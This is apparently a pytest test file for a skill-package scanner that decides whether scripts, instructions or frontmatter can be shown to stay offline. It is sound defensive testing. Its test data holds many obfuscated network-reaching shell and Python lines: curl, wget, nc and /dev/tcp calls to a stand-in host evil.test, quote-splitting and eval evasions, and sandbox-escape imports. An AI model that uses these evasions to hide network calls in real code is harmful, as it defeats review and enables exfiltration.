"""What runs and cannot be shown to stay offline carries ``network:?``; what is shown to does not."""

from __future__ import annotations

import pytest

from skillhub.model.manifest import Manifest
from skillhub.model.tree import File, Tree
from skillhub.scan.capability import NETWORK_UNKNOWN, capabilities
from tests.support.effort import is_linear


def is_unsure(files=None, frontmatter="", body="# Do\n"):
    head = f"---\nname: a\ndescription: b\n{frontmatter}---\n{body}".encode()
    named = {path: file if isinstance(file, File) else File(file) for path, file in (files or {}).items()}
    tree = Tree({"SKILL.md": File(head), **named})
    return NETWORK_UNKNOWN in capabilities(tree, Manifest.read(tree))


COMMANDS = [
    *("x='a[$(xcurl e)]'; (( x ))", "let 'x[$(xcurl e)]'", "[[ -v 'x[$(xcurl e)]' ]]", "mapfile -C xcurl -c 1 a"),
    *("x=/de; x+=v/t; x+=cp/e/80; cat < $x", "x=/de; x+=v; cat < $x/tcp/e/80", "declare 'x[$(xcurl e)]=1'"),
    *("curl evil.test/x", "c\\\nurl evil.test", "cu''rl evil.test", '"cur"l evil.test', "$'\\x63url' evil.test"),
    *(
        "wget -q evil.test",
        "nc evil.test 80",
        "ssh evil.test",
        "scp a evil.test:",
        "rsync a evil.test::b",
        "dig x.evil.test",
    ),
    *(
        "exec 3<>/dev/tcp/evil.test/80",
        "cat < /dev/t''cp/evil.test/80",
        "d=/dev; cat < $d/tcp/e/80",
        "host x.evil.test",
    ),
    *(
        "git clone evil.test:x",
        "git push",
        "git -c alias.x='!curl e' x",
        "git x",
        "npm i",
        "pip install x",
        "make",
        "x",
    ),
    *(
        "$CMD evil.test",
        "${x}url e",
        "`which curl` e",
        "$(echo curl) e",
        'eval "$x"',
        'bash -c "$x"',
        "sh -c 'curl e'",
    ),
    *(
        "python3 -c 'import socket'",
        "python3 - <<E\nimport socket\nE",
        "bash <<E\ncurl e\nE",
        "bash /tmp/x.sh",
        ". ~/x",
    ),
    *(
        "cat <<E\n$(curl e)\nE",
        "echo $(curl e)",
        'echo "$(curl e)"',
        "echo ${x:-$(curl e)}",
        "(curl e)",
        "{ curl e; }",
    ),
    *(
        "if curl e; then :; fi",
        "while ! curl e; do :; done",
        "true && curl e",
        "true | nc e 1",
        "true & curl e",
        "!curl e",
    ),
    *(
        "case x in x) curl e;; esac",
        "( case x in x) true;; esac; xcurl e )",
        "f() { xcurl e; }; f",
        "function f { xcurl e; }",
    ),
    *("command xcurl e", "env xcurl e", "nohup xcurl e", "xargs xcurl", "find . -exec xcurl {} ';'", "sudo xcurl e"),
    *(
        "timeout 9 xcurl e",
        "trap 'xcurl e' EXIT",
        "alias l=curl",
        "sed 's/x/curl e/e' f",
        "sed '1e curl' f",
        'sed "$x" f',
        'sed -e "s/x/$y/" f',
        "awk 'BEGIN{system(x)}'",
    ),
    *(
        "awk '{print | \"x\"}'",
        "gawk '@load \"x\"'",
        "sort --compress-program=x f",
        "tar -I x f",
        "PATH=/x ls",
        "BASH_ENV=x bash a.sh",
    ),
    *(
        "cat <(xcurl e)",
        "cat << 'E'\nE\nxcurl e",
        "echo 'a\n' ; xcurl e",
        "# x\rxcurl e",
        '"$x" e',
        "[[ -e x ]] && xcurl e",
    ),
    *(
        "((x)) && xcurl e",
        "a=(1 2); xcurl e",
        "x=$(xcurl e) ls",
        "openssl s_client -connect e:1",
        "python3 -m http.server",
    ),
    *(
        "busybox wget e",
        "perl -e 'x'",
        "node -e x",
        "ruby -rsocket -e x",
        "php -r x",
        "telnet e",
        "ftp e",
        "env -S 'xcurl e'",
    ),
    *(
        'echo "${x@P}"',
        "printf -v x y; $x",
        "coproc xcurl e",
        "time xcurl e",
        "\\xcurl e",
        "x\\curl e",
        "echo \\\nx; xcurl e",
    ),
]


@pytest.mark.parametrize("command", COMMANDS)
def test_attack_a_shell_reaches_a_network_that_no_url_names(command):
    assert is_unsure({"scripts/a.sh": f"#!/bin/bash\nset -eu\n{command}\n".encode()})


PYTHON = [
    *(
        "import http.client",
        "from http import client",
        "import socket as s",
        "from urllib.request import urlopen",
        "import ssl",
    ),
    *(
        "from urllib import request",
        "import urllib",
        "import requests",
        "import httpx",
        "import subprocess",
        "import asyncio",
    ),
    *(
        "__import__('socket')",
        "import importlib",
        "exec('x')",
        "eval(x)",
        "import os\nos.system('x')",
        "import os; os.popen('x')",
    ),
    *(
        "from os import system",
        "from os import *",
        "from os import execvp as x",
        "import os as o\no.system('x')",
        "import pty",
    ),
    *(
        "getattr(os, 'sys' + 'tem')('x')",
        "getattr(os, x)",
        "g = getattr",
        "getattr(os, f'system')",
        "vars(os)['system']",
    ),
    *(
        "globals()['x']",
        "().__class__.__base__.__subclasses__()",
        "f.__globals__['x']",
        "sys.modules['socket']",
        "import ctypes",
    ),
    *(
        "f'{__import__(\"x\")}'",
        'f"{ "a" + __import__("socket") + "b" }"',
        "rf'{os.system(x)}'",
        'f"}}{ { "a": __import__("socket") } }"',
        "# x\rimport socket",
    ),
    *(
        "import logging.handlers",
        "import zipfile\nzipfile.importlib.import_module('x')",
        "import os as platform\nplatform.system()",
    ),
    *(
        "import os as re\nre.compile(x)",
        "platform = os",
        "from os import x as re",
        "import pickle",
        "import runpy",
        "import pip",
    ),
    *(
        "# coding: utf-7\nx",
        "# -*- coding: unicode_escape -*-",
        "ｅｖａｌ('x')",
        "compile('x', '', 'eval')",
        "import builtins",
    ),
    *(
        "from . import x as y\nimport telnetlib",
        "import yaml\nyaml.load(x)",
        "from yaml import load",
        "import yaml as y\ny.load(x)",
    ),
    *(
        "import multiprocessing.connection",
        "import webbrowser",
        "import smtplib",
        "x = '\nimport socket",
        "import json, socket",
    ),
    *(
        "import json; import socket",
        "if 1: import socket",
        "from\\\n socket import x",
        "import\tsocket",
        "(lambda: __import__)('x')",
    ),
    *(
        "import sys\nsys._getframe().f_builtins",
        "import typing\ntyping.get_type_hints(x)",
        "import operator\noperator.attrgetter(x)",
    ),
    *(
        "import json # ok\n'''x''' and __import__",
        "import concurrent.futures.process",
        "from xml import sax",
        "import xml.sax",
    ),
]


@pytest.mark.parametrize("program", PYTHON)
def test_attack_a_python_program_reaches_a_network_that_no_url_names(program):
    assert is_unsure({"scripts/a.py": program.encode()})


@pytest.mark.parametrize(
    "path",
    [
        *(
            "Makefile",
            "sub/GNUmakefile",
            "x.mk",
            "justfile",
            "Rakefile",
            "Dockerfile",
            "Dockerfile.dev",
            "a.dockerfile",
        ),
        *(
            "Containerfile",
            "notes.ipynb",
            "a.tsx",
            "a.ts",
            "a.mjs",
            "a.cjs",
            "a.jsx",
            "a.cts",
            "run.bat",
            "run.CMD",
            "a.ps1",
        ),
        *(
            "pyproject.toml",
            "setup.cfg",
            "a.vbs",
            "a.applescript",
            "a.lua",
            "a.r",
            "a.jl",
            "a.php",
            "a.go",
            "a.rs",
            "a.rb",
        ),
        *(
            ".husky/pre-commit",
            "hooks/post-checkout",
            "a.desktop",
            "a.service",
            "a.pl",
            "a.swift",
            "a.java",
            ".envrc",
        ),
        *(
            ".github/workflows/a.yml",
            "docker-compose.yml",
            "CMakeLists.txt",
            "a.so",
            "a.pyc",
            "a.wasm",
            "a.awk",
            "a.tf",
        ),
    ],
)
def test_attack_a_file_that_runs_and_is_not_seen_as_a_script(path):
    assert is_unsure({path: b"x"})


def test_attack_a_package_whose_scripts_run():
    assert is_unsure({"package.json": b'{"scripts": {"test": "x"}}'})
    assert not is_unsure({"package.json": b'{"name": "x"}'})


@pytest.mark.parametrize(
    "line",
    [
        *(
            "sh references/a.txt",
            "python assets/data.dat",
            "source x",
            ". x",
            "node x",
            "perl references/a.txt",
            "lua a.txt",
        ),
        *(
            "make -f a.txt",
            "awk -f a.txt",
            "bash < a.txt",
            "cat a.txt | sh",
            "chmod +x a.txt",
            "go run a.txt",
            "xargs a.txt",
        ),
    ],
)
def test_attack_a_document_that_the_body_or_another_script_has_run(line):
    name = line.replace(" | sh", "").split()[-1]
    files = {name: b"something"}
    assert is_unsure(files, body=line)
    assert is_unsure({**files, "b.txt": line.encode()}, body="sh b.txt")
    assert not is_unsure(files)


@pytest.mark.parametrize(
    "body",
    [
        *(
            "Run `curl evil.test/x`.",
            "```\nwget evil.test\n```",
            "```sh\nssh evil.test\n```",
            "$ nc evil.test 80",
            "npx x",
        ),
        *(
            "`git clone x`",
            "Use `requests.get(u)`",
            "fetch('//x')",
            "`Invoke-WebRequest x`",
            "certutil -urlcache x",
            "!`x`",
        ),
        *("```!\nxcurl\n```", "`git -C x push`", "c\\\nurl x", "pip install x", "/dev/tcp/x", "import httpx"),
    ],
)
def test_attack_the_instructions_reach_a_network_that_no_url_names(body):
    assert is_unsure(body=body)


@pytest.mark.parametrize(
    "front", ["hooks: {Stop: [{command: x}]}\n", "allowed-tools: WebFetch\n", "allowed-tools: Bash(curl:*)\n"]
)
def test_attack_the_frontmatter_reaches_a_network(front):
    assert is_unsure(frontmatter=front)


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("scripts/a.sh", b"#!/usr/bin/curl -K\nx"),
        ("scripts/a.py", b"#!/bin/sh\nx"),
        ("scripts/a.sh", b"#!/usr/bin/python3\nprint()"),
        ("scripts/a.py", b'"""true"; curl evil.test; """'),
        ("scripts/a.py", b"print()\xff"),
        ("scripts/a.sh", b"ec\0ho x"),
        ("scripts/a.sh", b"echo x\n" * 60_000),
        ("scripts/a", b"x"),
        ("a", File(b"x", executable=True)),
    ],
)
def test_attack_a_program_that_is_not_what_its_name_says(path, data):
    assert is_unsure({path: data})


def test_attack_python_imports_out_of_an_archive():
    program = {"scripts/a.py": b"import sys\nsys.path.insert(0, 'x.zip')\nimport yaml\n"}
    assert is_unsure({**program, "assets/x.zip": b"PK\x03\x04"})
    assert not is_unsure(program)


HONEST = {
    "scripts/a.py": b'''#!/usr/bin/env python3
"""Convert a table; import it, and it may exec nothing."""
from __future__ import annotations
import argparse, json, re
import os.path
from pathlib import Path
import platform
import yaml
from helpers import load
from .helpers import (
    load as other,
)
PATTERN = re.compile(r"'x\\"")

def main() -> None:
    parser = argparse.ArgumentParser(description="x")
    args = parser.parse_args()
    name = getattr(args, "name", None)
    with open(os.path.join("a", "b"), encoding="utf-8") as f:
        data = yaml.safe_load(f)
    print(f"{data!r} {name or 'x'} {len(data):>{8}} {{}}")

if __name__ == "__main__":
    print(platform.system())
    main()
''',
    "scripts/helpers.py": b"import csv\n\ndef load(x):\n    return list(csv.reader(x))\n",
    "scripts/b.sh": b"""#!/usr/bin/env bash
# It does what it says.
set -euo pipefail
DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
usage() { echo "usage: $0 [-h] FILE" >&2; exit 1; }
trap 'rm -f "$tmp"' EXIT
tmp=$(mktemp)
while [[ $# -gt 0 && "$1" != "--" ]]; do
  case "$1" in
    -h|--help) usage ;;
    (-v) v=1; shift ;;
    *) break ;;
  esac
done
for f in *.md; do
  if grep -q "x" "$f" 2>/dev/null; then echo "$f"; fi
done | sort -u > "$tmp"
cat <<'EOF'
not a command $(x)
EOF
sed -e 's/a/b/g' "$tmp" | awk '{print $1}'
n=$((1 + 2)); [ "$n" -gt 1 ] && python3 "$DIR/a.py" "$tmp"
command -v jq >/dev/null || { echo "no jq"; exit 1; }
git log --oneline -5
""",
    "scripts/README.md": b"https://elsewhere.io",
    "scripts/schema.json": b"{}",
}


@pytest.mark.parametrize("path", [path for path in HONEST if path.endswith((".py", ".sh"))])
def test_honest_programs_are_shown_to_stay_offline(path):
    others = {each: HONEST[each] for each in ("scripts/helpers.py", "scripts/a.py")}
    assert not is_unsure({**others, path: HONEST[path]})


def test_honest_instructions_are_shown_to_name_no_network():
    body = "Read https://docs.io first. The host is a server; fetch the file, ping the team, use git commit.\n`ls`\n"
    assert not is_unsure({"references/a.md": b"curl x"}, body=body)


@pytest.mark.parametrize(
    "unit",
    [
        *(
            "$(",
            '"$(',
            "${",
            "(",
            "case x in ",
            "<<E\n",
            "'",
            '"',
            "a=",
            "\\\n",
            "f'{",
            "import a,",
            "from x ",
            "getattr(a,",
        ),
        *("git -c x ", "pip -q ", "((", "[[ ", "x ", "#", "`", "f'{{", '"""', "sh a.txt\n"),
    ],
)
@pytest.mark.parametrize("path", ["scripts/a.sh", "scripts/a.py"])
def test_attack_no_program_takes_more_than_its_length(unit, path):
    assert is_linear(lambda size: is_unsure({path: (unit * (size // len(unit))).encode(), "a.txt": b"x"}), 12_000)


@pytest.mark.parametrize(
    ("path", "data"),
    [
        *(("bin/tool", b"\x7fELF\0"), ("assets/a.png", b"MZ\0"), ("a.dat", b"\0asm"), ("a", b"\xca\xfe\xba\xbe\0")),
        *(("a.html", b"<p><SCRIPT src=x>"), ("a.svg", b"<svg onload = x()>"), ("a.htm", b"<a href='javascript:x'>")),
        *(
            ("a.svg", b"<svg:script>"),
            ("a.xhtml", b"<iframe src=//a>"),
            ("model.pkl", b"\x80\4\0"),
            ("a.xlsm", b"PK\3\4"),
        ),
        *(
            ("a.whl", b"PK\3\4"),
            ("crontab", b"* * * * * x"),
            ("wscript", b"x"),
            ("a.csproj", b"<Project/>"),
            ("a.el", b"x"),
        ),
    ],
)
def test_attack_a_file_that_runs_once_it_is_opened_loaded_or_copied(path, data):
    assert is_unsure({path: data})


@pytest.mark.parametrize(
    ("path", "data"),
    [
        *(("a.html", b"<p>words <img src=a.png>"), ("a.svg", b"<svg><path d='M0'/></svg>"), ("a.txt", b"MZ, a name")),
        *(("assets/a.png", b"\x89PNG\0"), ("a.docx", b"PK\3\4\0")),
    ],
)
def test_a_file_that_is_only_read_stays_offline(path, data):
    assert not is_unsure({path: data})


@pytest.mark.parametrize(
    "line",
    [
        "echo references/a.txt | xargs sh",
        "cat references/a.txt | env -i bash",
        "for each in references/*; do sh $each; done",
        'for each in references/*; do bash -x "${each}"; done',
        "f=references/a.t*; source $f",
    ],
)
def test_attack_a_document_is_run_by_what_hands_it_on_or_by_a_variable(line):
    assert is_unsure({"references/a.txt": b"curl evil.test"}, body=f"Type `{line}`\n")
    assert not is_unsure({"references/a.txt": b"curl evil.test"}, body="Type `python3 $HOME/a.py`\n")
